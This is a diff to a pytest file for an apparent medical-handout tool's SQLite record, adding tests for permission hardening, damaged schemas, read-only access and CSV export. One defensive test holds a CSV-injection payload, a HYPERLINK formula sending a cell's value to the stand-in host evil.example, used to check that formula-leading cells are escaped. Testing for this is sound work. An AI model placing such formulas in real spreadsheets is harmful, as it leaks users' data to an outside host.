@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import base64
 import csv
+import errno
 import io
 import os
 import re
@@ -21,6 +22,7 @@ import ivig_handout
 from ivig_handout.api import Request, build, given
 from ivig_handout.errors import NotFoundError, OutputError
 from ivig_handout.export.sinks.record import (
+    MAX_ID,
     MIGRATIONS,
     VERSION,
     Entry,
@@ -31,6 +33,7 @@ from ivig_handout.export.sinks.record import (
     chart_note,
     default_path,
 )
+from ivig_handout.export.spreadsheet import FORMULA_LEADS, csv_text
 from ivig_handout.inputs.patient import Patient
 
 from ..conftest import umask
@@ -95,6 +98,19 @@ def test_entries_since_a_day_or_a_time(tmp_path: Path) -> None:
     assert [e.id for e in record.entries(date.today() - timedelta(days=4))] == [old.id, new.id]
     assert [e.id for e in record.entries(datetime.now() - timedelta(hours=1))] == [new.id]  # naive: local time
     assert record.entries(datetime.now(UTC) + timedelta(seconds=5)) == []
+
+
+def test_the_first_and_last_days_and_ids_sqlite_cannot_hold(tmp_path: Path) -> None:
+    """The calendar's edges (local midnight of 0001-01-01 is in year 0 east of UTC) and ids past SQLite's
+    largest INTEGER are before, after or beside every row, not an OverflowError or ValueError."""
+    record = Record(tmp_path / "record.sqlite3")
+    entry = record.add(a_given())
+    assert record.entries(date(1, 1, 1)) == [entry] and record.entries(datetime(1, 1, 1)) == [entry]
+    assert record.entries(date(9999, 12, 31)) == [] and record.entries(datetime.max) == []
+    for number in (MAX_ID, MAX_ID + 1, 2**100, 0, -1, -(2**63) - 1):
+        with pytest.raises(NotFoundError) as exc:
+            record.get(number)
+        assert one_line(exc).startswith(f"no handout number {number} in the record ")
 
 
 def test_the_file_is_private_and_the_default_is_in_the_data_folder(tmp_path: Path,
@@ -318,6 +334,127 @@ def test_what_is_not_a_record_is_one_line_naming_it(tmp_path: Path, make) -> Non
     assert sorted(p.name for p in tmp_path.iterdir()) == before  # nothing made beside it
 
 
+# --- an existing record others can read, a table that lacks a column, a read-only record -----------
+
+def modes(folder: Path) -> dict[str, int]:
+    return {p.name: stat.S_IMODE(p.stat().st_mode) for p in folder.iterdir()}
+
+
+@pytest.mark.parametrize("loose", [0o644, 0o640, 0o604, 0o666])
+def test_a_record_others_can_read_is_made_private_when_opened_to_write(tmp_path: Path, loose: int) -> None:
+    path = tmp_path / "record.sqlite3"
+    Record(path).add(a_given(patient=NAME))
+    with sqlite3.connect(path) as reader:  # another program has it open: its -wal and -shm are there too
+        reader.execute("SELECT count(*) FROM given").fetchone()
+        for file in tmp_path.iterdir():
+            file.chmod(loose)
+        assert set(modes(tmp_path).values()) == {loose} and len(modes(tmp_path)) == 3
+        Record(path, read_only=True).entries()  # reading changes nothing
+        assert set(modes(tmp_path).values()) == {loose}
+        record = Record(path)  # before a name can go in
+        assert modes(tmp_path) == {"record.sqlite3": 0o600, "record.sqlite3-wal": 0o600, "record.sqlite3-shm": 0o600}
+        record.add(a_given(patient=NAME))
+    reader.close()
+    assert modes(tmp_path) == {"record.sqlite3": 0o600}
+    assert [e.patient for e in Record(path).entries()] == [NAME, NAME]
+
+
+def test_a_record_others_can_read_that_cannot_be_made_private_is_refused(tmp_path: Path,
+                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
+    """As when the file is another user's (chmod: EPERM; root may chmod any file, so the refusal is made
+    here by chmod itself)."""
+    path = tmp_path / "record.sqlite3"
+    Record(path).add(a_given())
+    path.chmod(0o644)
+    before = path.read_bytes()
+
+    def not_yours(self: Path, mode: int, **_: object) -> None:
+        raise PermissionError(errno.EPERM, os.strerror(errno.EPERM), str(self))
+
+    monkeypatch.setattr(Path, "chmod", not_yours)
+    with pytest.raises(OutputError) as exc:
+        Record(path)
+    assert one_line(exc) == (f"{path}: others can read record.sqlite3 (-rw-r--r--) and it cannot be made private "
+                             f"(Operation not permitted); ask its owner to run chmod 600 {path}, or give another file")
+    monkeypatch.undo()
+    assert path.read_bytes() == before and stat.S_IMODE(path.stat().st_mode) == 0o644
+    assert len(Record(path, read_only=True).entries()) == 1  # it can still be read
+
+
+@pytest.mark.parametrize("column", ["patient", "job_id", "title", "copies"])
+def test_a_table_without_a_column_is_refused_when_opened(tmp_path: Path, column: str) -> None:
+    path = tmp_path / "record.sqlite3"
+    Record(path).add(a_given())
+    with sqlite3.connect(path) as conn:
+        conn.execute(f"ALTER TABLE given DROP COLUMN {column}")
+    conn.close()
+    before = path.read_bytes()
+    for read_only in (False, True):
+        with pytest.raises(OutputError) as exc:
+            Record(path, read_only=read_only)
+        assert one_line(exc) == (f"{path}: the record's table 'given' has no column '{column}'; restore the file "
+                                 "from a backup or give another file")
+    assert path.read_bytes() == before
+
+
+def test_a_record_without_its_table_is_refused_when_opened(tmp_path: Path) -> None:
+    path = tmp_path / "record.sqlite3"
+    Record(path)
+    with sqlite3.connect(path) as conn:
+        conn.execute("DROP TABLE given")
+    conn.close()
+    with pytest.raises(OutputError) as exc:
+        Record(path)
+    assert one_line(exc) == f"{path}: the record has no table 'given'; restore the file from a backup or give another file"
+
+
+def test_a_read_only_record_is_read_and_left_as_it_was(tmp_path: Path) -> None:
+    """A 0444 file (in a folder whose name a URI must escape): read, not written, and nothing made beside
+    it (SQLite's reader would leave a read-only -shm there that stops later writes)."""
+    folder = tmp_path / "records? #1 100%"
+    folder.mkdir()
+    path = folder / "record.sqlite3"
+    added = Record(path).add_all([a_given(), a_given(document="mg", patient=NAME)])
+    path.chmod(0o444)
+    before = (path.read_bytes(), path.stat().st_mtime_ns, sorted(os.listdir(folder)))
+    reader = Record(path, read_only=True)
+    assert reader.entries() == added and reader.get(2) == added[1] and reader.entries(date(9999, 12, 31)) == []
+    with pytest.raises(ValueError, match="read-only"):
+        reader.add(a_given())
+    assert (path.read_bytes(), path.stat().st_mtime_ns, sorted(os.listdir(folder))) == before
+    path.chmod(0o600)
+    assert Record(path).add(a_given()).id == 3  # and it can be written again once it is writable
+
+
+def test_a_reader_of_a_read_only_record_sees_rows_still_in_the_write_ahead_log(tmp_path: Path) -> None:
+    path = tmp_path / "record.sqlite3"
+    record = Record(path)
+    with sqlite3.connect(path) as held:  # another program keeps it open: new rows stay in the -wal
+        held.execute("SELECT count(*) FROM given").fetchone()
+        added = record.add(a_given())
+        assert (tmp_path / "record.sqlite3-wal").stat().st_size > 0
+        path.chmod(0o444)
+        assert Record(path, read_only=True).entries() == [added]
+    held.close()
+
+
+def test_reading_an_older_record_does_not_migrate_it(tmp_path: Path) -> None:
+    path = tmp_path / "old.sqlite3"
+    version_1_file(path)
+    before = path.read_bytes()
+    (old,) = Record(path, read_only=True).entries()
+    assert (old.id, old.document) == (1, "mg")
+    assert path.read_bytes() == before and schema(path) == (1, set())
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["old.sqlite3"]
+    empty = tmp_path / "empty.sqlite3"
+    empty.touch()  # a new record not written to yet (version 0): nothing in it
+    assert Record(empty, read_only=True).entries() == [] and empty.read_bytes() == b""
+    with pytest.raises(OutputError) as exc:
+        Record(tmp_path / "none.sqlite3", read_only=True)
+    assert one_line(exc).startswith(f"{tmp_path / 'none.sqlite3'}: there is no record here")
+    assert not (tmp_path / "none.sqlite3").exists()
+
+
 # --- what the record says -------------------------------------------------------------------------
 
 WHEN = datetime(2026, 12, 1, 15, 4, 5, tzinfo=UTC)
@@ -360,7 +497,32 @@ def test_the_csv_reads_back() -> None:
                        "by": "", "patient": "", "sha256": SHA}
     assert (rows[1]["title"], rows[1]["patient"], rows[1]["job_id"]) == ('IVIg for "MG", with a comma', NAME,
                                                                         "clinic-7")
-    assert as_csv([]).splitlines() == [",".join(rows[0])]
+    assert as_csv([]).splitlines() == [",".join(f'"{name}"' for name in rows[0])]
+
+
+HOSTILE = 'HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.mark.parametrize("lead", sorted(FORMULA_LEADS), ids=repr)
+def test_csv_cells_that_start_like_a_formula_open_as_text(lead: str) -> None:
+    """OWASP's CSV injection: every text cell that starts with = + - @ TAB CR gets a leading quote;
+    ids, copies and years are numbers, written bare (QUOTE_NONNUMERIC reads them back as numbers)."""
+    value = lead + HOSTILE
+    entry = an_entry(title=value, printer=value, job_id=value, by=value, patient=value)
+    text = as_csv([entry])
+    header, row = csv.reader(io.StringIO(text, newline=""))
+    cells = dict(zip(header, row, strict=True))
+    assert {cells[k] for k in ("title", "printer", "job_id", "by", "patient")} == {"'" + value}
+    assert (cells["id"], cells["copies"], cells["source_year"], cells["document"]) == ("7", "2", "2012", "gbs")
+    _, typed = csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC)
+    assert [typed[header.index(k)] for k in ("id", "copies", "source_year")] == [7.0, 2.0, 2012.0]
+    assert text.splitlines()[1].startswith('7,"2026-12-01T15:04:05+00:00","gbs",')
+
+
+def test_csv_cells_that_do_not_start_like_a_formula_are_left_alone() -> None:
+    names = ["Ann = Lee", "Ann-Marie O'Neil", "'quoted already", "José @ home", " =spaced", "Ann;=1+1", ""]
+    header, *rows = csv.reader(io.StringIO(csv_text(["name", "n"], [[n, -3] for n in names] + [[None, 0]])))
+    assert header == ["name", "n"] and rows == [[n, "-3"] for n in names] + [["", "0"]]  # numbers: as they are
 
 
 # Codes the FHIR R4 specification defines (fhir.resources checks the shapes, not these value sets):
